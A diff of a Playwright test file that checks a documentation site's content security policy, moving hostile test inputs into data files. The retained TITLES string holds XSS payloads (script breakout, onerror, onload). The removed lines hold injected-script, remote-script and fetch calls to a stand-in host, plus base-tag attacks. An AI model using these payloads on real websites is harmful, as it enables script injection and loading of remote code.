@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import Browser, Page, expect
 from served import serve
-from support import ROOT, OpenPage, build_site, find_headers, write_real_theme, write_site
+from support import ROOT, OpenPage, build_site, find_headers, read_data, write_real_theme, write_site
 
 from .conftest import ALL, CARD, search
 
@@ -17,22 +17,6 @@ QUICK = {"", "leverage/", "claims/", "404.html"}
 """Pages that have every feature between them; the others are for `make test-slow`."""
 DATA = ROOT / "tests/data/hostile"
 TITLES = r"""</title></script><script>ran("title")</script><img src=x onerror=ran("image")> "onload="ran(1)" {{ 7 }}"""
-PAGE = """---
-title: '{titles}'
-description: '{titles}'
----
-
-# `{titles}` {{ #t }}
-
-## `{titles}` {{ #s }}
-
-`{titles}` on Wednesday.[@abel2020]
-{{ #p .fact data-event="2020" }}
-
-!!! check "`{titles}`"
-    Text.[@abel2020]
-    {{ #c }}
-"""
 
 
 def read_notes(page: Page) -> None:
@@ -90,13 +74,7 @@ def test_every_feature_keeps_to_the_policy(open_page: OpenPage, path: str) -> No
     assert page.context.cookies() == []
 
 
-@pytest.mark.parametrize("attack", [
-    "document.head.append(Object.assign(document.createElement('script'), {textContent: 'window.caught = 1'}))",
-    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.caught = 1\">')",
-    "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\" id=styled>')",
-    "document.head.append(Object.assign(document.createElement('script'), {src: 'https://elsewhere.example/x.js'}))",
-    "fetch('https://elsewhere.example/').catch(() => 0)",
-    "document.head.append(Object.assign(document.createElement('base'), {href: 'https://elsewhere.example/'}))"])
+@pytest.mark.parametrize("attack", read_data("browser.yml")["attacks"])
 @pytest.mark.parametrize("where", ["header", "page"])
 def test_what_the_policy_forbids_is_stopped(browser: Browser, address: str, attack: str, where: str) -> None:
     """By the header of the host and by the page's own words, each without the other."""
@@ -133,7 +111,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Pat
     root = tmp_path_factory.mktemp("hostile")
     pages = {f"docs/{path.name}": path.read_bytes() for path in DATA.glob("pages/*.md")
              if path.stem not in {"bad-address", "deep", "front-bomb", "empty"}}
-    page = PAGE.format(titles=TITLES)
+    page = read_data("hostile/page.md").replace("TITLES", TITLES)
     bib, other = ((DATA / f"bibs/{name}-html.bib").read_text(encoding="utf-8") for name in ("fields", "name"))
     write_site(root, {
         "docs/index.md": page, "docs/other.md": page, "docs/sources.md": "# S { #s }\n\n<!-- briefing: sources -->\n",
